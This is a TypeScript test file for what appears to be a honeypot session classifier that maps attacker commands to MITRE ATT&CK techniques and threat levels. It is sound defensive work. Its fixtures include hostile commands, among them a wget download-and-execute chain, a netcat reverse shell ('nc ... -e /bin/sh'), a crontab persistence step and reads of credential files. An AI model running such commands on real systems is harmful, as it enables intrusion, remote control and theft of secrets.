import { describe, expect, it } from 'vitest';
import { classifySession, groupSessions } from './classify.js';
import { commands, decoyEvent } from './test-events.js';

describe(classifySession.name, () => {
  it('links each hit to its event and the command part that matched', () => {
    const [event] = commands('uname -a && id');
    const result = classifySession([event!]);
    expect(result.events).toEqual([
      expect.objectContaining({
        eventId: event!.id,
        hits: [
          expect.objectContaining({
            ruleId: 'lin.uname',
            techniques: ['T1082'],
            evidence: { eventId: event!.id, part: 'uname -a' },
          }),
          expect.objectContaining({
            ruleId: 'lin.id',
            techniques: ['T1033'],
            evidence: { eventId: event!.id, part: 'id' },
          }),
        ],
      }),
    ]);
  });

  it('a download then run is a second stage, and level 6', () => {
    const result = classifySession(commands('cd /tmp; wget http://x/a.sh && chmod +x a.sh && ./a.sh'));
    expect(result.facts).toEqual({ executed: true, networkActivity: true, c2: 'none', secondStage: true });
    expect(result.level.level).toBe(6);
  });

  it('a run before any download is no second stage', () => {
    expect(classifySession(commands('./a.sh', 'wget http://x/b')).facts.secondStage).toBe(false);
  });

  it('runs an uploaded file by its name, wherever it was put', () => {
    const upload = decoyEvent({ kind: 'file', action: 'uploaded', path: 'payload' }, 0);
    const run = decoyEvent({ kind: 'command', input: '/bin/payload' }, 1);
    const result = classifySession([upload, run]);
    expect(result.events[1]?.hits.map((hit) => hit.ruleId)).toEqual(['ex.run-transferred']);
    expect(result.facts.secondStage).toBe(true);
  });

  it('reading a credential file is T1552.001, reading the account list is not', () => {
    const read = (path: string) => classifySession([decoyEvent({ kind: 'file', action: 'read', path }, 0)]).techniques;
    expect(read('/var/www/seisan/.env')).toContain('T1552.001');
    expect(read('/srv/share/passwords.xlsx')).toContain('T1552.001');
    expect(read('/etc/passwd')).not.toContain('T1552.001');
    expect(read('/etc/passwd-')).not.toContain('T1552.001');
  });

  it('discovery only is hands-on reconnaissance, level 5', () => {
    const result = classifySession(commands('uname -a', 'cat /proc/cpuinfo', 'w'));
    expect(result.facts).toMatchObject({ executed: true, networkActivity: false, c2: 'none' });
    expect(result.level.level).toBe(5);
  });

  it('a reverse shell in a world that routes nowhere is a failed C2 attempt', () => {
    expect(classifySession(commands('nc 203.0.113.9 4444 -e /bin/sh')).facts.c2).toBe('failed');
    const established = decoyEvent({ kind: 'pivot', target: { host: '10.0.0.9', port: 22 }, outcome: 'established' });
    expect(classifySession([established]).facts.c2).toBe('established');
  });

  it('persistence is spreading, level 7', () => {
    expect(classifySession(commands('crontab /tmp/c')).level.level).toBe(7);
  });

  it('counts a command Cowrie logged twice (input, then failed) once', () => {
    const input = decoyEvent({ kind: 'command', input: 'uname -a' }, 0);
    const failed = decoyEvent({ kind: 'command', input: 'uname -a', failed: true }, 1);
    expect(classifySession([input, failed]).events).toHaveLength(1);
  });

  it('handles hostile input without throwing', () => {
    const huge = `wget http://x/a; ${'A'.repeat(100_000)}`;
    const quotes = `uname -a; echo "unbalanced ' quote; cat /etc/passwd`;
    const nul = 'uname\0-a; id\0';
    const many = 'id;'.repeat(30_000);
    const result = classifySession(commands(huge.slice(0, 65_536), quotes, nul, many.slice(0, 65_536)));
    expect(result.techniques).toEqual(expect.arrayContaining(['T1105', 'T1082', 'T1033']));
    expect(result.techniques).not.toContain('T1087.001');
  }, 10_000);
});

describe(groupSessions.name, () => {
  it('groups by session in order', () => {
    const a = decoyEvent({ kind: 'connect' }, 0, 'a');
    const b = decoyEvent({ kind: 'connect' }, 0, 'b');
    const a2 = decoyEvent({ kind: 'disconnect' }, 1, 'a');
    expect([...groupSessions([a, b, a2]).entries()]).toEqual([
      ['a', [a, a2]],
      ['b', [b]],
    ]);
  });
});
